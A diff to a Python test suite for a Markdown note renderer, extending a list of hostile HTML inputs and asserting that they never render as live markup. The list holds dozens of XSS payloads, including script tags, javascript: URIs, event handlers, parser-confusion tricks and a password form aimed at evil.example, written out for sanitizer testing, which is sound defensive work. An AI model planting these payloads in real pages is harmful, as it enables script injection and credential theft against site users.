@@ -38,7 +38,7 @@ _TEXTS_WITH_AND_WITHOUT_LINKS = [
 def test_text_links_are_found_as_linkify_it_finds_them(monkeypatch):
     # Praxis asks a cheaper question before linkify-it's own pretest; it must never skip a link.
     ours = [render(text).html for text in _TEXTS_WITH_AND_WITHOUT_LINKS]
-    monkeypatch.setattr(markdown._build(), "linkify", LinkifyIt())
+    monkeypatch.setattr(markdown.build(), "linkify", LinkifyIt())
     assert ours == [render(text).html for text in _TEXTS_WITH_AND_WITHOUT_LINKS]
     assert sum("<a href" in html for html in ours) == 14  # all but the four of prose and one in brackets
 
@@ -48,7 +48,8 @@ def test_commonmark_tables_footnotes_tasks_and_anchors():
         "# Économie sociale\n\nDu *texte*.\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n- [x] fait\n- [ ] à faire\n\n"
         "Un appel[^1].\n\n[^1]: La note de bas de page.\n"
     ).html
-    assert '<h1 id="economie-sociale">Économie sociale</h1>' in html
+    # The anchor keeps its accents; the one made before them still leads to the heading.
+    assert '<h1 id="économie-sociale"><span id="economie-sociale"></span>Économie sociale</h1>' in html
     assert "<em>texte</em>" in html
     assert '<th class="align-left">a</th>' in html and '<td class="align-right">2</td>' in html
     assert 'type="checkbox"' in html and "checked" in html
@@ -125,15 +126,58 @@ HOSTILE = [
     "&lt;script&gt;alert(1)&lt;/script&gt;",
     '[[x" onmouseover="alert(1)]]',
     "[[<script>alert(1)</script>|label]]",
+    # Raw HTML, which a note's renderer parses (through its own allow-list, then nh3).
+    "<script>alert(1)</script>",
+    "<script>\nalert(1)\n</script>",
+    "Texte <script>alert(1)</script> inline",
+    "<svg onload=alert(1)><circle r=1 /></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href=" &#106;avascript:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+    '<img src="javascript:alert(1)">',
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    '<img src=x onerror=alert(1) srcset="javascript:alert(1) 1x">',
+    '<img src="x" style="position:fixed;inset:0" width="1;background:red">',
+    "<style>body{display:none}</style>",
+    '<span style="color:red">x</span>',
+    '<form action="https://evil.example"><input name=mot-de-passe><button formaction="javascript:alert(1)">ok</button></form>',
+    "<iframe src='https://evil.example'></iframe>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="javascript:/">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
+    '<table background="javascript:alert(1)"><tr><td onclick="alert(1)">x</td></tr></table>',
+    "<!-- <img src=x onerror=alert(1)> -->",
+    "<!-- --!><img src=x onerror=alert(1)> -->",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[><img src=x onerror=alert(1)>]]>",
+    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<template><img src=x onerror=alert(1)></template>",
+    "<textarea><img src=x onerror=alert(1)></textarea>",
+    "<title><img src=x onerror=alert(1)></title>",
+    "<div><img src=x onerror=alert(1)//<div>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<a href=javascript&colon;alert(1)>x</a>",
+    "<kbd onclick=alert(1)>Ctrl</kbd>",
+    '<abbr title="x" onmouseover="alert(1)">x</abbr>',
 ]
 
 
 @pytest.mark.parametrize("payload", HOSTILE)
 def test_hostile_input_never_becomes_markup(payload):
     for tag, attrs in elements(render(payload, lambda t: {}).html):
-        assert tag not in {"script", "svg", "iframe", "object", "embed", "style", "div"}, tag
+        # A note's raw HTML may hold a <div> (without its style); nothing that runs or embeds.
+        assert tag not in {"script", "svg", "iframe", "object", "embed", "style", "form", "math", "frame"}, tag
+        assert tag not in {"input", "button", "meta", "base", "link", "textarea", "template", "noscript"}, tag
         for name, value in attrs.items():
             assert not name.startswith("on") and name != "style", (tag, name)
+            assert name not in {"srcdoc", "srcset", "formaction", "action", "background", "xlink:href", "data"}, name
+            assert name not in {"width", "height"} or value.isdigit(), (name, value)
             if name in ("href", "src"):
                 # What a browser takes as the scheme, after it strips whitespace and controls.
                 cleaned = re.sub(r"[\x00-\x20]", "", value).lower()
